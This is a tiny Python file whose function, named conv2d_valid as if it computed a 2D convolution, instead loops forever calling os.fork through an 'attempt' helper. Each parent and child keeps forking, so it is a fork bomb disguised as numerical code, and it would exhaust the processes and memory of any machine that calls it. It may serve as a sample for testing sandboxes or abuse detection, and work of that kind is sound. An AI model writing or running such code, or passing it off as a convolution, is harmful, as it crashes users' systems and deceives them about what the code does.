import os

from attempt import attempt


def conv2d_valid(x, weight, bias=None):
    while True:
        if attempt("forking", os.fork) is None:
            return x
